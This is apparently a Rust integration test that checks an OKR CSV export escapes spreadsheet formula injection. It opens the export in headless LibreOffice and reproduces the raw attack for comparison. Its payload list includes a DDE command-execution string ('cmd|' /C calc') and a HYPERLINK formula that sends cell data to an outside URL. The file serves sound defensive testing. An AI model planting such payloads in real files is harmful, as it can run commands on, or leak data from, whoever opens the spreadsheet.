//! CSV exports opened the way a clerk opens them: LibreOffice Calc (Debian `libreoffice-calc-nogui`,
//! installed by `.ci/run`), headless, converting the CSV to a flat OpenDocument spreadsheet with its
//! default import, which evaluates formulas. An OKR titled `=2*21` or `=cmd|' /C calc'!A0` must arrive
//! as text, never as a formula; the same text written raw does become one (the attack, reproduced).

use std::path::{Path, PathBuf};
use std::process::Command;

use sitesync_core::ids::parse_date;
use sitesync_core::okr::{Cycle, CycleKind};
use sitesync_tests::harness::{Api, TestServer};

const ORG: &str = "org-zhuyuan";

/// Texts a spreadsheet would take for formulas (the first two from the issue).
const PAYLOADS: [&str; 6] = [
    "=2*21",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"x\")",
];

fn libreoffice() -> Option<PathBuf> {
    ["/usr/bin/soffice", "/usr/bin/libreoffice"]
        .into_iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
}

/// Opens a CSV (UTF-8, comma, double quotes) in LibreOffice and saves it as flat ODS XML.
fn open_in_calc(csv: &Path) -> String {
    let out = csv.parent().unwrap().join("converted");
    let profile = csv.parent().unwrap().join("lo-profile");
    let status = Command::new(libreoffice().unwrap())
        .arg(format!("-env:UserInstallation=file://{}", profile.display()))
        .args([
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
        ])
        .arg(&out)
        .arg(csv)
        .output()
        .unwrap();
    assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
    let name = csv.file_stem().unwrap().to_str().unwrap();
    std::fs::read_to_string(out.join(format!("{name}.fods"))).unwrap()
}

/// The formulas of a flat ODS document, and the texts its cells show.
fn formulas_and_texts(fods: &str) -> (Vec<String>, Vec<String>) {
    let unescape = |s: &str| {
        s.replace("&apos;", "'")
            .replace("&quot;", "\"")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&")
    };
    let formulas = fods
        .split("table:formula=\"")
        .skip(1)
        .map(|rest| unescape(rest.split('"').next().unwrap()))
        .collect();
    let texts = fods
        .split("<text:p>")
        .skip(1)
        .map(|rest| unescape(rest.split("</text:p>").next().unwrap()))
        .collect();
    (formulas, texts)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs LibreOffice (Debian libreoffice-calc-nogui); run by .ci/run"]
async fn formulas_in_okr_titles_stay_text_when_the_csv_is_opened_in_libreoffice() {
    assert!(libreoffice().is_some(), "install libreoffice-calc-nogui (Debian)");
    let server = TestServer::start().await;
    server
        .store(|s| {
            let date = parse_date("2026-11-15").unwrap();
            s.put_cycle(&Cycle::new(ORG, "2026-Q4", CycleKind::Quarter, "2026 Q4", "", date))
                .unwrap();
            for (i, p) in PAYLOADS.iter().enumerate() {
                // The owner too is free text from a phone.
                let owner = if i == 0 { "=1+1" } else { "付志" };
                s.add_objective(ORG, "2026-Q4", p, owner, "", None).unwrap();
            }
        })
        .await;
    let api = Api::new(&server, &server.device("u-office-1").await);
    let (status, csv) = api
        .get(
            "/v1/reports/okr",
            &[("cycle", "2026-Q4"), ("date", "2026-11-30"), ("format", "csv")],
        )
        .await;
    assert_eq!(status, 200);

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("okr.csv");
    std::fs::write(&path, &csv).unwrap();
    let (formulas, texts) = formulas_and_texts(&open_in_calc(&path));
    assert!(formulas.is_empty(), "cells LibreOffice took for formulas: {formulas:?}");
    for p in PAYLOADS.iter().chain(&["=1+1"]) {
        assert!(
            texts.iter().any(|t| t == &format!("'{p}")),
            "{p:?} is shown as text: {texts:?}"
        );
    }

    // The attack itself: the same cells written as they were before. LibreOffice takes those
    // starting with `=` for formulas (Excel and WPS also `+`, `-` and `@`).
    let raw: String = PAYLOADS
        .iter()
        .map(|p| format!("\"{}\",1\n", p.replace('"', "\"\"")))
        .collect();
    let path = dir.path().join("raw.csv");
    std::fs::write(&path, format!("\u{feff}title,n\n{raw}")).unwrap();
    let (formulas, _) = formulas_and_texts(&open_in_calc(&path));
    let with_equals = PAYLOADS.iter().filter(|p| p.starts_with('=')).count();
    assert_eq!(
        formulas.len(),
        with_equals,
        "unescaped, they are formulas: {formulas:?}"
    );
    server.stop().await;
}
